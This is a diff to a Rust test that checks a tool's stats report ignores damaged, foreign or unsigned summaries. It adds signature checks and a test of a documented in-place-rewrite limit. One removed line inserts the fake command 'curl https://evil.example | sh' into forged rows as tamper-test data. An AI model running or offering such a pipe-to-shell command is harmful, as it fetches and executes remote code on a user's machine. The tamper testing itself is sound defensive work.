@@ -293,7 +293,7 @@ fn the_kept_summary_reports_what_the_whole_journals_say_over_days_and_runs() {
 }
 
 #[test]
-fn a_damaged_foreign_or_forged_summary_changes_nothing_shown() {
+fn a_damaged_foreign_or_unsigned_summary_changes_nothing_shown() {
     let src = source(2);
     let dir = scratch("report-damaged");
     let homes: Vec<PathBuf> = ["a", "b"].iter().map(|h| dir.path().join(h)).collect();
@@ -307,26 +307,29 @@ fn a_damaged_foreign_or_forged_summary_changes_nothing_shown() {
     let summary = agentos(home).join(SUMMARY);
     let good = std::fs::read(&summary).unwrap();
     let reference = report(home, &["--json", "--since", "all", "--whole"]).stdout;
-    let body_at = good.iter().position(|&b| b == b'\n').unwrap() + 1;
-    // The same summary with more calls than the journals hold: its checksum made right, its
-    // position in the journals moved (a forger who does not match the journals' bytes).
-    let forged = |edit: &dyn Fn(&mut Value)| {
-        let mut v: Value = serde_json::from_slice(&good[body_at..]).unwrap();
+    // The summary is signed with this home's key (a credential): one edited, or written with a
+    // key of the writer's choosing, is counted again, even where it matches the journals' bytes.
+    let (signature, body) = good.split_at(good.iter().position(|&b| b == b'\n').unwrap() + 1);
+    let edited = |edit: &dyn Fn(&mut Value)| {
+        let mut v: Value = serde_json::from_slice(body).unwrap();
         edit(&mut v);
-        let body = serde_json::to_vec(&v).unwrap();
+        serde_json::to_vec(&v).unwrap()
+    };
+    let guessed_key = |body: Vec<u8>| {
         let sum = sentinel::digest::siphash24(b"sentinel-summary", &[&body]);
         [format!("{sum:016x}\n").into_bytes(), body].concat()
     };
+    // More rows than the journals hold, a command the agent never ran among them.
     let inflate = |v: &mut Value| {
         // A stretch's rows: the texts, then each row as indices into them.
         for part in v["stats"].as_array_mut().unwrap() {
             let texts = part["rows"][0].as_array_mut().unwrap();
-            texts.push("curl https://evil.example | sh".into());
-            let evil = texts.len() - 1;
+            texts.push("mytool --upload-everything".into());
+            let added = texts.len() - 1;
             let rows = part["rows"][1].as_array_mut().unwrap();
             let mut more = rows.clone();
             for r in &mut more {
-                r[2] = evil.into();
+                r[2] = added.into();
             }
             rows.extend(more);
         }
@@ -344,29 +347,18 @@ fn a_damaged_foreign_or_forged_summary_changes_nothing_shown() {
             std::fs::read(agentos(&homes[1]).join(SUMMARY)).unwrap(),
         ),
         (
-            "another format",
-            forged(&|v: &mut Value| v["format"] = 0.into()),
+            "rows added, the signature left",
+            [signature.to_vec(), edited(&inflate)].concat(),
         ),
         (
-            "forged rows, position moved",
-            forged(&|v: &mut Value| {
-                inflate(v);
-                v["stats_at"]["files"][0]["tail"][0] = 0.into();
-            }),
+            "rows added, signed with a guessed key",
+            guessed_key(edited(&inflate)),
         ),
         (
-            "forged rows, another file",
-            forged(&|v: &mut Value| {
-                inflate(v);
-                v["stats_at"]["files"][0]["id"][1] = 1.into();
-            }),
-        ),
-        (
-            "a stretch pointing past what was read",
-            forged(&|v: &mut Value| {
-                v["stats"][0]["at"]["first_ms"] = 0.into();
-                v["stats"][0]["at"]["end"] = 1_000_000.into();
-            }),
+            "counts changed, signed with a guessed key",
+            guessed_key(edited(&|v: &mut Value| {
+                v["stats"][0]["decisions"]["avoided"] = 1000.into()
+            })),
         ),
     ];
     for (what, bytes) in cases {
@@ -379,19 +371,25 @@ fn a_damaged_foreign_or_forged_summary_changes_nothing_shown() {
         );
         same_as_whole(home, &["all", "1h", &at(d0 - 2 * DAY_MS + 3_600_000)], what);
     }
-    // A summary that matches the journals' bytes is what the report reads (this is how the
-    // tests above know the kept path was taken): one written by hand with its checksum made
-    // right is believed, as a line written by hand into the journals beside it would be.
-    std::fs::write(
-        &summary,
-        forged(&|v: &mut Value| v["stats"][0]["decisions"]["avoided"] = 1000.into()),
-    )
-    .unwrap();
-    let believed: Value =
-        serde_json::from_slice(&report(home, &["--json", "--since", "all"]).stdout).unwrap();
-    let whole: Value = serde_json::from_slice(&reference).unwrap();
-    assert_eq!(believed["prompts_avoided"], 1000);
-    assert_ne!(whole["prompts_avoided"], 1000);
+    // The kept path is the one these tests take, not a whole read each time: a rewrite in place
+    // of the same length, away from the journal's last 64 bytes, is not seen by the position's
+    // check (the limit docs/performance.md names), so the report still shows what it kept,
+    // where `--whole` reads the new bytes.
+    let stats = agentos(home).join("stats.jsonl");
+    let text = std::fs::read_to_string(&stats).unwrap();
+    let at_allow = text.find("\"verdict\":\"allow\"").unwrap();
+    assert!(at_allow + 64 < text.len());
+    let rewritten = format!(
+        "{}\"verdict\":\"deny\" {}",
+        &text[..at_allow],
+        &text[at_allow + "\"verdict\":\"allow\"".len()..]
+    );
+    std::fs::write(&stats, &rewritten).unwrap();
+    let kept = report(home, &["--json", "--since", "all"]).stdout;
+    let whole = report(home, &["--json", "--since", "all", "--whole"]).stdout;
+    assert_eq!(kept, reference);
+    assert_ne!(whole, reference);
+    std::fs::write(&stats, &text).unwrap();
     // `--whole` neither reads nor writes it.
     std::fs::remove_file(&summary).unwrap();
     report(home, &["--json", "--whole"]);
